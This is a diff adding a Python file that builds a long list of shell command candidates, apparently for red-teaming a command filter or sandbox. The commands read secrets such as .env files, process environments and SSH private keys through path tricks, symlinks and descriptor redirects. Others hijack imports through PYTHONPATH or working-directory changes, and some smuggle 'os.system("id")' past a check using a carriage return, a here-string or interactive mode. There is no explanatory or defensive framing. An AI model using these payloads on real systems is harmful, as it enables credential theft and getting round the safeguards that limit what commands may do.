@@ -1,0 +1,37 @@
+import shlex
+def py(code, exe='python3', pre='', post=''): return f"{pre}{exe} -c {shlex.quote(code)}{post}"
+O=lambda n: py(f"print(open('{n}').read())")
+CANDS=[
+ O('.env'), O('./.env'), O('sub/../.env'), O('/proc/self/environ'), O('/proc/self/cwd/.env'), O('/proc/self/root/work/rt/round52/proj/.env'),
+ O('/proc/self/fd/0'), O('/dev/stdin'), O('/dev/fd/0'), O('/proc/1/environ'), O('/proc/self/cmdline'), O('link1'), O('sshdir/id_rsa'), O('hard'),
+ O('/work/rt/round52/home/.ssh/id_rsa'), O('~/.ssh/id_rsa'), O('.ENV'), O('.env/'), O('/proc/self/mem'), O('/proc/thread-self/environ'),
+ O('//proc//self//environ'), O('/proc/./self/environ'), O('/proc/self/task/../environ'), O('readme.txt'),
+ py("print(open('readme.txt', encoding='idna').read())"), py("print(open('readme.txt','r','idna').read())"),
+ py("import sys; print(sys.stdin.read())", post=' < .env'),
+ py("import sys; print(sys.stdin.read())", post=' <<< "$(cat .env)"'),
+ py("import sys; print(sys.stdin.read())", post=' 0<link1'),
+ py("print(open('/proc/self/fd/3').read())", post=' 3<.env'),
+ py("print(open('/proc/self/fd/3').read())", post=' 3<readme.txt'),
+ py("import json; print(json.load(open('/proc/self/environ')))"),
+ py("import sys; print(sys.stdin.read())"),
+ py("import sys; print(sys.stdin.buffer.raw.readall())"),
+ # env prefixes / bash-level
+ py("import json", pre='PYTHONPATH=sub '), py("import json", pre='env PYTHONPATH=sub '), py("import json", pre='export PYTHONPATH=sub; '),
+ py("print(1)", pre='PYTHONINSPECT=1 ', post=" <<< 'import os; os.system(\"id\")'"),
+ py("print(1)", pre='PYTHONWARNINGS=ignore::sub.json.X '),
+ py("print(1)", exe='python3 -W ignore::sub.json.X'),
+ py("import json", pre='cd sub && '), py("import json", pre='cd sub; '), py("import this", pre='(cd sub && '+'', post=')'),
+ py("import json", pre='pushd sub >/dev/null; '), py("import json", pre='cd "$(echo sub)" && '), py("import json", pre='cd ${PWD}/sub && '),
+ py("import json", pre='CDPATH=. cd sub && '),
+ py("print(1)", exe='python3 -i'), py("print(1)", exe='python3 -ic'.replace('c','')), "python3 -ic 'print(1)' <<< 'import os; os.system(\"id\")'",
+ "python3 -Sc 'print(1)'", "python3 -c 'print(1)' -i", "python3 -c 'print(1)' -c 'import os'",
+ "python3 -c $'print(1) #\\rimport os; os.system(\"id\")'", "python3 -c $'print(1)\\rprint(2)'",
+ "python3 -c $'print(1) #\\x0cprint(2)'", "python3 -c \"print(1)\"", "python3 -c \"print('$CANARY_ENV')\"",
+ "python3 -c print\\(1\\)", "python3 -c 'print(1)'\"\"", "python3 -c '' 'print(1)'", "python3 -c", "python3 -c ''",
+ "python3 -c 'print(1)' >/dev/null", "python3 -c 'print(1)' > out.txt", "python3 -c 'import sys; print(1, file=sys.stderr)' 2>err.txt",
+ "python3 -X importtime -c 'print(1)'", "python3 -u -c 'print(1)'", "python3 -v -c 'print(1)'", "python3 -I -c 'print(1)'", "python3 -E -c 'print(1)'", "python3 -B -c 'print(1)'", "python3 -P -c 'print(1)'", "python3 -x -c 'print(1)'", "python3 -b -c 'print(1)'", "python3 -O -c 'print(1)'",
+ "python3 --check-hash-based-pycs always -c 'import json'",
+ "python -c 'print(1)'", "/usr/bin/python3 -c 'print(1)'", "python3.11 -c 'print(1)'", "command python3 -c 'print(1)'", "exec python3 -c 'print(1)'", "nice python3 -c 'print(1)'", "timeout 5 python3 -c 'print(1)'", "env python3 -c 'print(1)'", "xargs python3 -c 'print(1)' < /dev/null", "sudo python3 -c 'print(1)'",
+ "bash -c \"python3 -c 'print(1)'\"", "python3 -c 'print(1)' | sh", "echo 'import os' | python3 -c 'import sys; print(sys.stdin.read())'",
+ "python3 -c 'print(1)'; python3 -c 'print(2)'", "python3 -c 'print(open(\"readme.txt\").read())' && cat .env",
+]
